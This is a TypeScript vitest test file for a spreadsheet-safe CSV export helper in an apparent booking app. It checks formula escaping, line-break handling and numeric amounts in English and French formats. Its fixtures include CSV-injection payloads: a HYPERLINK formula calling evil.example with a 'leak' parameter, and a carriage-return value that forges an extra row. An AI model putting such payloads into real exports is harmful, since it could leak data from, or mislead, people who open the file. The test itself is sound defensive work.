import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import {
  csvAmount,
  escapeSpreadsheetFormula,
  spreadsheetCsvOptions,
  type CsvCell,
} from './spreadsheet-csv';

/**
 * The file read back as a spreadsheet reads it: a row ends at CRLF, and at a lone LF or CR too,
 * wherever a cell is not quoted. A cell that let one through would start a row of its own.
 */
function readAsSpreadsheet(csv: string, language: 'en' | 'fr'): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  return parse(csv, {
    bom: true,
    delimiter: language === 'fr' ? ';' : ',',
    record_delimiter: ['\r\n', '\n', '\r'],
    relax_column_count: true,
  });
}

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","Open the booking")';

/** Texts a visitor can type into a booking, each with the cell a spreadsheet must show. */
const HOSTILE_TEXTS: Array<[string, string]> = [
  ['Line one\nLine two', 'Line one\nLine two'],
  ['Line one\rLine two', 'Line one\rLine two'],
  ['Line one\r\nLine two', 'Line one\r\nLine two'],
  [`Vegetarian, please\n${HYPERLINK}`, `Vegetarian, please\n${HYPERLINK}`],
  [`Fine\rMT-999999,2026-01-01,Forged row`, `Fine\rMT-999999,2026-01-01,Forged row`],
  [`\n${HYPERLINK}`, `'\n${HYPERLINK}`],
  [HYPERLINK, `'${HYPERLINK}`],
  ['\tTabbed', "'\tTabbed"],
  ['\rCarriage return first', "'\rCarriage return first"],
  ['+33 6 12 34 56 78', "'+33 6 12 34 56 78"],
  ['-99', "'-99"],
  ['@SUM(1+1)', "'@SUM(1+1)"],
  ['  =1+1', "'  =1+1"],
  ['\uFF1D1+1', "'\uFF1D1+1"],
  ['Élodie "Lolo" Dupré', 'Élodie "Lolo" Dupré'],
  ['Riad Léna, Derb Sidi Bouloukat', 'Riad Léna, Derb Sidi Bouloukat'],
  ['Dar Anika; Kasbah', 'Dar Anika; Kasbah'],
  ['Wheelchair - ground floor', 'Wheelchair - ground floor'],
  ['', ''],
];

describe.each(['en', 'fr'] as const)('a CSV cell, in %s', (language) => {
  const options = spreadsheetCsvOptions(language);
  const amount = (text: string) => (language === 'fr' ? text.replace('.', ',') : text);

  it('holds each hostile text in its own cell of its own row, a formula escaped', () => {
    const rows: CsvCell[][] = HOSTILE_TEXTS.map(([text], index) => [`MT-${index}`, text, 'end']);
    const read = readAsSpreadsheet(
      stringify([['Ref', 'Text', 'Last'], ...rows], options),
      language,
    );
    expect(read).toEqual([
      ['Ref', 'Text', 'Last'],
      ...HOSTILE_TEXTS.map(([, shown], index) => [`MT-${index}`, shown, 'end']),
    ]);
  });

  it('keeps numbers numbers: an overpayment is -99.00, never an escaped text', () => {
    const rows: CsvCell[][] = [
      [3, csvAmount(-99), csvAmount(-99961), csvAmount(1234.5), csvAmount(0), csvAmount(0.1 + 0.2)],
      [-2, csvAmount(-0.01), csvAmount(100000), '-99', csvAmount(149.4), csvAmount(-0)],
    ];
    const csv = stringify(rows, options);
    const separator = language === 'fr' ? ';' : ',';
    // Written bare: no quote around them, no leading apostrophe.
    expect(csv.slice(1).split('\r\n')[0]).toBe(
      ['3', '-99.00', '-99961.00', '1234.50', '0.00', '0.30'].map(amount).join(separator),
    );
    expect(readAsSpreadsheet(csv, language)).toEqual([
      ['3', '-99.00', '-99961.00', '1234.50', '0.00', '0.30'].map(amount),
      ['-2', ...['-0.01', '100000.00'].map(amount), "'-99", ...['149.40', '0.00'].map(amount)],
    ]);
  });

  it('ends every line as Windows does, after the byte-order mark', () => {
    expect(stringify([['a', 'b']], options)).toBe(`\uFEFFa${language === 'fr' ? ';' : ','}b\r\n`);
  });
});

describe('escapeSpreadsheetFormula', () => {
  it('leaves a text that starts with a word, a digit, a space or a quote as it is', () => {
    for (const text of ['Sophie', '2 vegetarians', ' spaced', "'quoted", 'MT-000123', '']) {
      expect(escapeSpreadsheetFormula(text), text).toBe(text);
    }
  });
});
